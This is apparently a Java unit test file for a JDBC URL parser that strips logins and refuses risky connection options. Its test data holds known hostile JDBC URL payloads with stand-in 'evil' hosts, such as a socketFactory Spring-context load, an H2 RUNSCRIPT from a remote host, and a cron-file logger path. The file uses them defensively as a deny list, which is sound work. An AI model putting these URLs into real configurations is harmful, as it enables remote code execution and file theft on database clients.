package com.mobileapiconnect.bridge.resource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A database's URL is taken without its login, and with harmless options alone. */
class JdbcUrlTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:postgresql://db:5432/erp                                    | POSTGRESQL
            jdbc:postgresql://a:5432,b:5433/erp?targetServerType=primary     | POSTGRESQL
            jdbc:postgresql://[::1]:5432/erp?sslmode=verify-full             | POSTGRESQL
            jdbc:mariadb://db/erp                                            | MARIADB
            jdbc:mysql://db:3306/erp?sslMode=VERIFY_IDENTITY                 | MARIADB
            jdbc:sqlserver://db\\SQLEXPRESS:1433;databaseName=erp;encrypt=true | SQLSERVER
            jdbc:sqlite:/var/lib/erp/erp.db                                  | SQLITE
            jdbc:sqlite:erp data.db?foreign_keys=true                        | SQLITE
            jdbc:oracle:thin:@//db:1521/ERP                                  | ORACLE
            """)
    void aUrlWithHarmlessOptionsIsTakenAsItIs(String text, DatabaseBrand brand) {
        JdbcUrl.Parsed parsed = JdbcUrl.parse(text, false);

        assertThat(parsed.url()).isEqualTo(new JdbcUrl(brand, text));
        assertThat(parsed.username()).isNull();
        assertThat(parsed.password()).isNull();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:postgresql://db/erp?user=bridge&password=a%26b+c&sslmode=require | jdbc:postgresql://db/erp?sslmode=require | a&b+c
            jdbc:mysql://db/erp?password=a=b&user=bridge                           | jdbc:mysql://db/erp                      | a=b
            jdbc:sqlserver://db;user=bridge;password={a;b};encrypt=true            | -                                       | -
            jdbc:sqlserver://db;user=bridge;password={a=b};encrypt=true            | jdbc:sqlserver://db;encrypt=true        | a=b
            """)
    void aLoginIsTakenOut(String text, String url, String password) {
        if (url.equals("-")) {
            assertThatThrownBy(() -> JdbcUrl.parse(text, false)).hasMessageNotContaining("a;b");
            return;
        }
        JdbcUrl.Parsed parsed = JdbcUrl.parse(text, false);

        assertThat(parsed.url().text()).isEqualTo(url);
        assertThat(parsed.username()).isEqualTo("bridge");
        assertThat(parsed.password()).isEqualTo(password);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil | socketFactory
            jdbc:postgresql://db/erp?sslfactory=evil.Factory                     | sslfactory
            jdbc:postgresql://db/erp?loggerFile=/etc/cron.d/x                     | loggerFile
            jdbc:postgresql://db/erp?jaasApplicationName=x                        | jaasApplicationName
            jdbc:postgresql://db/erp?loginTimeout=0                               | loginTimeout
            jdbc:postgresql://db/erp?SOCKETTIMEOUT=0                              | SOCKETTIMEOUT
            jdbc:mysql://db/erp?allowLoadLocalInfile=true                         | allowLoadLocalInfile
            jdbc:mariadb://db/erp?allowLocalInfile=true                           | allowLocalInfile
            jdbc:mysql://db/erp?autoDeserialize=true                              | autoDeserialize
            jdbc:mysql://db/erp?queryInterceptors=evil                            | queryInterceptors
            jdbc:sqlserver://db;jaasConfigurationName=x                           | jaasConfigurationName
            jdbc:sqlserver://db;socketFactoryClass=evil                           | socketFactoryClass
            jdbc:sqlserver://db;trustStore=/etc/passwd                            | trustStore
            jdbc:sqlite:/erp.db?enable_load_extension=true                        | enable_load_extension
            """)
    void anOptionThatMayDoHarmIsRefusedByName(String text, String option) {
        assertThatThrownBy(() -> JdbcUrl.parse(text, false))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("must not have the option " + option);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://(host=db,allowLoadLocalInfile=true)/erp",
                "jdbc:mysql://address=(host=db)(autoDeserialize=true)/erp",
                "jdbc:mysql://user:secret@db/erp",
                "jdbc:postgresql://db/erp?%73ocketFactory=evil",
                "jdbc:postgresql:erp",
                "jdbc:oracle:thin:@ldap://evil/cn=x",
                "jdbc:oracle:thin:scott/secret@db:1521:ERP",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=db)))",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:file:/erp.db?mode=memory",
                "jdbc:sqlite::memory:",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:db2://db:50000/erp:clientRerouteServerListJNDIName=x;",
                "ldap://evil/x",
                "postgresql://db/erp"
            })
    void aUrlThatHidesSomethingIsRefusedAndNotQuoted(String text) {
        assertThatThrownBy(() -> JdbcUrl.parse(text, false))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageNotContainingAny("secret", "evil");
    }

    @Test
    void whoHasTheMachineMayNameAnyDriver() {
        assertThat(JdbcUrl.parse("jdbc:acme:anything", true).url().brand()).isEqualTo(DatabaseBrand.OTHER);
    }
}
